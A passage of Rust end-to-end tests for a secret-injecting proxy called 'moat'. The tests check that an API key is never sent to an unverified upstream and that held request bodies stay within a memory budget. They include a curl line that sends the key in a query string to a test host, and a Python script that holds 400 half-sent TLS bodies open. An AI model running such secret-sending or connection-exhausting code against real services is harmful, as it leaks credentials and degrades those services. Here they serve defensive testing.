    assert_eq!(fronting, 2, "{events:?}");
}

#[test]
fn no_value_goes_to_an_upstream_that_was_not_verified() {
    let w = World::new();
    // --tls-no-verify-upstream: moat intercepts, but cannot know the server is the host,
    // so the placeholder is a violation there, not a value.
    let script = r#"
p="$API_KEY"
curl -sS -m 10 -o /dev/null "https://api.example.test:8443/unverified?k=$p"; echo "exit=$?"
curl -sS -m 10 -o /dev/null "https://api.example.test:8443/unverified-control"; echo "exit=$?"
"#;
    let (out, events, _) = run(
        &w,
        &[
            "--tls-intercept",
            "--tls-port",
            "8443",
            "--tls-no-verify-upstream",
        ],
        script,
    );
    // Control: interception without verification carries requests.
    assert!(
        reached(&w, "/unverified-control"),
        "{}\n{}",
        stdout(&out),
        stderr(&out)
    );
    assert!(
        events.iter().any(|e| e["event"] == "tls"
            && e["tls"] == "intercepted"
            && e["upstream_verified"] == false),
        "{events:?}"
    );
    assert!(!reached(&w, "/unverified?"), "{:?}", w.log());
    assert!(!w.log().iter().any(|l| l.to_string().contains(VALUE)));
    assert_eq!(violations(&events).len(), 1, "{events:?}");
    assert_eq!(swapped(&events, "substituted"), 0, "{events:?}");
}

/// Opens N intercepted connections to the secret's host, each sending a request whose
/// 256 KiB Content-Length body stops one byte short (what moat would hold to rewrite it),
/// says how many it holds, and keeps them a few seconds.
const HELD_BODIES: &str = r#"
import socket, ssl, sys, time
n = int(sys.argv[1])
ctx = ssl.create_default_context()
size = 256 * 1024
socks = []
for i in range(n):
    s = ctx.wrap_socket(socket.create_connection(("api.example.test", 8443), timeout=30),
                        server_hostname="api.example.test")
    s.sendall(b"POST /held-%d HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: %d\r\n\r\n" % (i, size))
    s.sendall(b"x" * (size - 1))
    socks.append(s)
print("held", len(socks), flush=True)
time.sleep(3)
"#;

#[test]
fn bodies_held_for_the_value_stay_within_the_buffer_budget() {
    // 400 connections each in the middle of a 256 KiB body moat would hold whole to put
    // the value in (100 MiB), under a 64 MiB budget: what does not fit streams instead.
    let w = World::new();
    let ca = w.dir.join("world-ca.pem");
    let script = format!("python3 - 400 <<'PY'\n{HELD_BODIES}PY");
    let run = w.spawn_moat_env(
        &[("API_KEY", VALUE)],
        &[
            "run",
            &format!("--dns={WORLD_DNS}"),
            "--secret",
            "API_KEY@api.example.test",
            "--tls-intercept",
            "--tls-port",
            "8443",
            "--tls-upstream-ca",
            ca.to_str().unwrap(),
            "--max-buffer-memory",
            "64m",
            "--",
            "sh",
            "-c",
            &script,
        ],
    );
    let peak = moat_e2e::peak_rss_kib(run.id(), T);
    let out = run.finish();
    eprintln!("moat's peak RSS with 400 held bodies under 64m: {peak} KiB");
    assert!(
        stdout(&out).contains("held 400"),
        "every connection sent its body: {}\n{}",
        stdout(&out),
        stderr(&out)
    );
    // The path was exercised: the server was reading the bodies (those streamed).
    assert!(reached(&w, "/held-"), "{:?}", w.log().len());
    // The 64 MiB of buffers, the connections' TLS state, and the process itself; the
    // bodies alone would be 100 MiB (the previous tree peaked at 150 MiB; this one at 51).
    assert!(peak > 0 && peak < 80 * 1024, "moat's peak RSS {peak} KiB");
}
